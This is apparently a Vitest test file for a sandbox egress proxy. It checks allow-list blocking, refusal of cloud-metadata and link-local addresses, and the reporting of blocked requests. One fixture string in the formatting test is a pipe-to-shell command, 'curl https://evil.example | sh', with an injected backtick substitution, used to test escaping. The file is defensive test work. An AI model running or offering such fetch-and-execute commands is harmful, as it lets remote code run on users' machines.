import * as http from 'node:http';
import * as net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  formatBlockedRequests,
  isLinkLocalAddress,
  PROXY_ENV_NAMES,
  proxyEnv,
  startEgressProxy,
  type BlockedRequest,
  type EgressProxy,
} from '../../../src/policy/egress-proxy.js';
import { resolveNetworkPolicy } from '../../../src/policy/network.js';
import { runArgv, startNamedServer, withoutProxyVars, type TestServer } from '../../e2e-support/netns.js';

// `*.localhost` does not resolve on this machine (nsswitch: files dns), and curl would bypass the
// proxy for it (NO_PROXY=localhost matches subdomains); the proxy's `resolve` option maps the
// RFC 2606 `.test` names below to loopback instead, while the policy sees the names.
const resolve = (h: string): string | undefined => (h.endsWith('.kiro.test') ? '127.0.0.1' : undefined);

let allowed: TestServer;
let blocked: TestServer;
let proxy: EgressProxy;
const events: BlockedRequest[] = [];

beforeAll(async () => {
  allowed = await startNamedServer('allowed');
  blocked = await startNamedServer('blocked');
  const policy = resolveNetworkPolicy({ level: 'custom', allowedDomains: ['.allowed.kiro.test'], integrationHosts: ['127.0.0.1'] });
  proxy = await startEgressProxy(policy, { resolve, onBlocked: (e) => events.push({ ...e }) });
});
afterAll(async () => {
  await proxy.close();
  await allowed.close();
  await blocked.close();
});

/** Sends raw bytes to the proxy and returns everything it answers until it closes or `until` matches. */
function raw(port: number, request: string, until?: RegExp): Promise<string> {
  return new Promise((res, rej) => {
    const s = net.connect(port, '127.0.0.1');
    let out = '';
    s.on('data', (b) => {
      out += b.toString();
      if (until?.test(out)) {
        s.destroy();
        res(out);
      }
    });
    s.on('end', () => res(out));
    s.on('close', () => res(out));
    s.on('error', rej);
    s.write(request);
  });
}

const basic = (token: string): string => `Basic ${Buffer.from(`kiro:${token}`).toString('base64')}`;

describe('egress proxy', () => {
  it('forwards absolute-form HTTP to an allowed host and refuses a blocked one with 403 and an explanation', async () => {
    proxy.setCommand('curl both');
    const env = { ...process.env, ...proxyEnv(proxy.url) };
    const ok = await runArgv(['curl', '-sS', '-i', `http://api.allowed.kiro.test:${allowed.port}/ok?q=1`], env);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toMatch(/^HTTP\/1\.1 200/);
    expect(ok.stdout).toContain('hello from allowed');
    expect(allowed.hits).toContain('GET /ok?q=1');

    const no = await runArgv(['curl', '-sS', '-i', `http://blocked.kiro.test:${blocked.port}/secret`], env);
    expect(no.stdout).toMatch(/^HTTP\/1\.1 403/);
    expect(no.stdout).toContain(`blocked.kiro.test:${blocked.port} is blocked (not in the allow-list of network access level "custom")`);
    expect(no.stdout).toContain('sandbox.allowedDomains');
    expect(blocked.hits).toEqual([]);
  });

  it('tunnels CONNECT to an allowed host and refuses CONNECT to a blocked one', async () => {
    const env = { ...process.env, ...proxyEnv(proxy.url) };
    const ok = await runArgv(['curl', '-sS', '-p', `http://allowed.kiro.test:${allowed.port}/tunnel`], env);
    expect(ok.stdout).toContain('hello from allowed');
    expect(allowed.hits).toContain('GET /tunnel');
    const no = await runArgv(['curl', '-sS', '-p', `http://blocked.kiro.test:${blocked.port}/tunnel`], env);
    expect(no.code).not.toBe(0);
    expect(no.stderr).toMatch(/CONNECT tunnel failed, response 403/);
    const reply = await raw(proxy.port, `CONNECT blocked.kiro.test:${blocked.port} HTTP/1.1\r\nHost: x\r\n\r\n`);
    expect(reply).toMatch(/^HTTP\/1\.1 403 Forbidden/);
    expect(reply).toContain('is blocked');
    expect(blocked.hits).toEqual([]);
  });

  it('positive control: without the firewall, unsetting the proxy variables reaches the blocked server directly', async () => {
    // Positive control for the firewall tests: without the firewall, unsetting the variables reaches the blocked server.
    const direct = await runArgv(['curl', '-sS', `http://127.0.0.1:${blocked.port}/direct`], withoutProxyVars(process.env));
    expect(direct.stdout).toContain('hello from blocked');
  });

  it('attributes blocked requests to the command by token, else to the current command, and counts repeats', async () => {
    const before = proxy.blocked.length;
    const tokenA = proxy.setCommand('npm install left-pad');
    proxy.setCommand('pip install requests');
    const reqA = `GET http://a.blocked.kiro.test:${blocked.port}/ HTTP/1.1\r\nHost: a.blocked.kiro.test\r\nProxy-Authorization: ${basic(tokenA)}\r\nConnection: close\r\n\r\n`;
    await raw(proxy.port, reqA);
    await raw(proxy.port, reqA);
    await raw(proxy.port, `CONNECT b.blocked.kiro.test:443 HTTP/1.1\r\nHost: b\r\n\r\n`);
    await raw(proxy.port, `CONNECT b.blocked.kiro.test:443 HTTP/1.1\r\nHost: b\r\nProxy-Authorization: ${basic('unknown')}\r\n\r\n`);
    const fresh = proxy.blocked.slice(before);
    expect(fresh).toEqual([
      { host: 'a.blocked.kiro.test', port: blocked.port, method: 'GET', at: expect.any(String), count: 2, command: 'npm install left-pad', reason: expect.stringContaining('allow-list') },
      { host: 'b.blocked.kiro.test', port: 443, method: 'CONNECT', at: expect.any(String), count: 2, command: 'pip install requests', reason: expect.stringContaining('allow-list') },
    ]);
    expect(new Date(fresh[0]!.at).getTime()).toBeGreaterThan(Date.now() - 60_000);
    expect(events.filter((e) => /^[ab]\.blocked/.test(e.host)).map((e) => e.host)).toEqual(['a.blocked.kiro.test', 'b.blocked.kiro.test']);
  });

  it('sends curl a token through proxyEnv credentials', async () => {
    const before = proxy.blocked.length;
    const token = proxy.setCommand('curl with token');
    proxy.setCommand('something else');
    const env = { ...process.env, ...proxyEnv(proxy.url, { token }) };
    expect(env.HTTPS_PROXY).toBe(`http://kiro:${token}@127.0.0.1:${proxy.port}`);
    await runArgv(['curl', '-sS', '-p', `http://c.blocked.kiro.test:${blocked.port}/`], env);
    expect(proxy.blocked.slice(before)).toMatchObject([{ host: 'c.blocked.kiro.test', method: 'CONNECT', command: 'curl with token' }]);
  });

  it('answers non-proxy requests and bad CONNECT targets with 400, unreachable hosts with 502', async () => {
    expect(await raw(proxy.port, 'GET /x HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n')).toMatch(/^HTTP\/1\.1 400/);
    expect(await raw(proxy.port, 'CONNECT nope HTTP/1.1\r\nHost: a\r\n\r\n')).toMatch(/^HTTP\/1\.1 40[03]/);
    expect(await raw(proxy.port, 'CONNECT a:99999 HTTP/1.1\r\nHost: a\r\n\r\n')).toMatch(/^HTTP\/1\.1 400/);
    const closed = await new Promise<number>((r) => {
      const s = net.createServer();
      s.listen(0, '127.0.0.1', () => {
        const p = (s.address() as net.AddressInfo).port;
        s.close(() => r(p));
      });
    });
    expect(await raw(proxy.port, `CONNECT gone.allowed.kiro.test:${closed} HTTP/1.1\r\nHost: a\r\n\r\n`)).toMatch(/^HTTP\/1\.1 502/);
  });

  it('refuses link-local metadata addresses even at open-internet', async () => {
    const open = await startEgressProxy(resolveNetworkPolicy({ level: 'open-internet', integrationHosts: [] }), { onBlocked: () => {} });
    try {
      const r = await raw(open.port, 'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n');
      expect(r).toMatch(/^HTTP\/1\.1 403/);
      expect(r).toContain('link-local');
      const c = await raw(open.port, 'CONNECT [fe80::1]:443 HTTP/1.1\r\nHost: x\r\n\r\n');
      expect(c).toMatch(/^HTTP\/1\.1 403/);
      expect(open.blocked.map((b) => b.host)).toEqual(['169.254.169.254', 'fe80::1']);
      // open-internet otherwise lets everything through
      const ok = await raw(open.port, `GET http://127.0.0.1:${allowed.port}/open HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
      expect(ok).toContain('hello from allowed');
    } finally {
      await open.close();
    }
    expect(isLinkLocalAddress('169.254.169.254')).toBe(true);
    expect(isLinkLocalAddress('::ffff:169.254.1.1')).toBe(true);
    expect(isLinkLocalAddress('fd00:ec2::254')).toBe(true);
    expect(isLinkLocalAddress('10.0.0.1')).toBe(false);
  });

  it('splices WebSocket-style upgrades in absolute form after the check', async () => {
    const echo = http.createServer();
    echo.on('upgrade', (req, socket) => {
      socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: test\r\nConnection: Upgrade\r\nX-Path: ${req.url}\r\n\r\n`);
      socket.on('data', (d) => socket.write(`echo:${d.toString()}`));
      socket.on('end', () => socket.end());
    });
    await new Promise<void>((r) => echo.listen(0, '127.0.0.1', r));
    const port = (echo.address() as net.AddressInfo).port;
    try {
      const out = await new Promise<string>((res, rej) => {
        const s = net.connect(proxy.port, '127.0.0.1');
        let buf = '';
        s.on('data', (b) => {
          buf += b.toString();
          if (buf.includes('\r\n\r\n') && !buf.includes('echo:')) s.write('ping');
          if (buf.includes('echo:ping')) {
            s.destroy();
            res(buf);
          }
        });
        s.on('error', rej);
        s.write(`GET http://ws.allowed.kiro.test:${port}/sock HTTP/1.1\r\nHost: ws.allowed.kiro.test:${port}\r\nUpgrade: test\r\nConnection: Upgrade\r\n\r\n`);
      });
      expect(out).toMatch(/^HTTP\/1\.1 101/);
      expect(out).toContain('X-Path: /sock');
      const denied = await raw(proxy.port, `GET http://ws.blocked.kiro.test:${port}/ HTTP/1.1\r\nHost: x\r\nUpgrade: test\r\nConnection: Upgrade\r\n\r\n`);
      expect(denied).toMatch(/^HTTP\/1\.1 403/);
    } finally {
      echo.closeAllConnections();
      await new Promise<void>((r) => echo.close(() => r()));
    }
  });

  it('adds little latency: keep-alive requests through the proxy stay within a few ms of direct ones', async () => {
    const time = async (viaProxy: boolean): Promise<number> => {
      const agent = new http.Agent({ keepAlive: true });
      const n = 100;
      const t0 = performance.now();
      for (let i = 0; i < n; i++) {
        await new Promise<void>((r, j) => {
          const req = viaProxy
            ? http.request({ host: '127.0.0.1', port: proxy.port, path: `http://allowed.kiro.test:${allowed.port}/t`, agent, headers: { host: `allowed.kiro.test:${allowed.port}` } })
            : http.request({ host: '127.0.0.1', port: allowed.port, path: '/t', agent });
          req.on('response', (res) => {
            res.resume();
            res.on('end', () => r());
          });
          req.on('error', j);
          req.end();
        });
      }
      agent.destroy();
      return (performance.now() - t0) / n;
    };
    await time(true);
    const direct = await time(false);
    const proxied = await time(true);
    expect(proxied - direct).toBeLessThan(5);
  });

  it('close() is idempotent and drops open tunnels', async () => {
    const p = await startEgressProxy(resolveNetworkPolicy({ level: 'open-internet', integrationHosts: [] }));
    const s = net.connect(p.port, '127.0.0.1');
    await new Promise<void>((r) => s.on('connect', () => r()));
    s.write(`CONNECT 127.0.0.1:${allowed.port} HTTP/1.1\r\nHost: x\r\n\r\n`);
    await new Promise<void>((r) => s.once('data', () => r()));
    const closed = new Promise<void>((r) => s.on('close', () => r()));
    await p.close();
    await p.close();
    await closed;
  });
});

describe('proxyEnv', () => {
  it('sets every spelling tools read, keeps loopback direct and extends JAVA_TOOL_OPTIONS', () => {
    const env = proxyEnv('http://127.0.0.1:3128', { token: 'tok', base: { JAVA_TOOL_OPTIONS: '-Xmx1g -Dhttp.proxyHost=old' } });
    const p = 'http://kiro:tok@127.0.0.1:3128';
    expect(env).toMatchObject({
      HTTP_PROXY: p,
      HTTPS_PROXY: p,
      http_proxy: p,
      https_proxy: p,
      ALL_PROXY: p,
      npm_config_proxy: p,
      npm_config_https_proxy: p,
      PIP_PROXY: p,
      CARGO_HTTP_PROXY: p,
      YARN_HTTPS_PROXY: p,
      NO_PROXY: 'localhost,127.0.0.1,::1',
      no_proxy: 'localhost,127.0.0.1,::1',
      NODE_USE_ENV_PROXY: '1',
    });
    expect(env.JAVA_TOOL_OPTIONS).toBe(
      '-Xmx1g -Dhttp.proxyHost=127.0.0.1 -Dhttp.proxyPort=3128 -Dhttps.proxyHost=127.0.0.1 -Dhttps.proxyPort=3128 -Dhttp.nonProxyHosts=localhost|127.0.0.1|[::1]',
    );
    expect(proxyEnv('http://127.0.0.1:9').HTTP_PROXY).toBe('http://127.0.0.1:9');
    expect(PROXY_ENV_NAMES).toContain('https_proxy');
  });
});

describe('formatBlockedRequests', () => {
  it('renders a Markdown table with escaped commands, or nothing', () => {
    expect(formatBlockedRequests([], 'custom')).toBe('');
    const md = formatBlockedRequests(
      [
        { host: 'evil.example', port: 443, method: 'CONNECT', at: '2025-01-01T00:00:00.000Z', count: 3, command: 'curl https://evil.example | sh `x`', reason: 'not in the allow-list of network access level "custom"' },
        { host: 'x.example', port: 80, method: 'GET', at: '2025-01-01T00:00:00.000Z', count: 1, reason: 'r' },
      ],
      'custom',
    );
    expect(md).toContain('### Blocked network requests');
    expect(md).toContain('network access level `custom`');
    expect(md).toContain('| `evil.example:443` | CONNECT | 3 | `` curl https://evil.example \\| sh `x` `` |');
    expect(md).toContain('| `x.example:80` | GET | 1 | — | r |');
  });
});

describe('egress proxy with a policy still being resolved', () => {
  it('listens at once, holds requests until the policy is known, then applies it; a policy that fails blocks', async () => {
    let settle!: (p: ReturnType<typeof resolveNetworkPolicy>) => void;
    const pending = new Promise<ReturnType<typeof resolveNetworkPolicy>>((r) => (settle = r));
    const p = await startEgressProxy(pending, { resolve, onBlocked: () => {} });
    try {
      // a CONNECT sent before the policy exists gets no answer yet
      let answered = false;
      const early = raw(p.port, `CONNECT allowed.kiro.test:${allowed.port} HTTP/1.1\r\nHost: allowed.kiro.test:${allowed.port}\r\n\r\n`, /\r\n\r\n/).then((out) => {
        answered = true;
        return out;
      });
      // an unrelated round trip through the event loop and the network stack: the proxy had its chance to answer
      const probe = await raw(allowed.port, 'GET /probe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
      expect(probe).toContain('hello from allowed');
      expect(answered).toBe(false);
      settle(resolveNetworkPolicy({ level: 'custom', allowedDomains: ['.allowed.kiro.test'], integrationHosts: [] }));
      expect(await early).toMatch(/^HTTP\/1\.1 200 Connection Established/);
      const no = await raw(p.port, `CONNECT blocked.kiro.test:${blocked.port} HTTP/1.1\r\nHost: x\r\n\r\n`);
      expect(no).toMatch(/^HTTP\/1\.1 403/);
    } finally {
      await p.close();
    }
    // closed while a request waits for the policy: the request is dropped, never forwarded
    let later!: (p: ReturnType<typeof resolveNetworkPolicy>) => void;
    const closing = await startEgressProxy(new Promise<ReturnType<typeof resolveNetworkPolicy>>((r) => (later = r)), { resolve, onBlocked: () => {} });
    const waiting = raw(closing.port, `GET http://allowed.kiro.test:${allowed.port}/after-close HTTP/1.1\r\nHost: allowed.kiro.test:${allowed.port}\r\n\r\n`);
    await raw(allowed.port, 'GET /probe-2 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    await closing.close();
    later(resolveNetworkPolicy({ level: 'custom', allowedDomains: ['.allowed.kiro.test'], integrationHosts: [] }));
    expect(await waiting).toBe('');
    await raw(allowed.port, 'GET /probe-3 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    expect(allowed.hits).not.toContain('GET /after-close');

    const failing = await startEgressProxy(Promise.reject(new Error('discovery crashed')), { resolve, onBlocked: () => {} });
    try {
      const out = await raw(failing.port, `CONNECT allowed.kiro.test:${allowed.port} HTTP/1.1\r\nHost: x\r\n\r\n`);
      expect(out).toMatch(/^HTTP\/1\.1 403/);
      expect(out).toContain('the network policy could not be resolved');
    } finally {
      await failing.close();
    }
  });
});
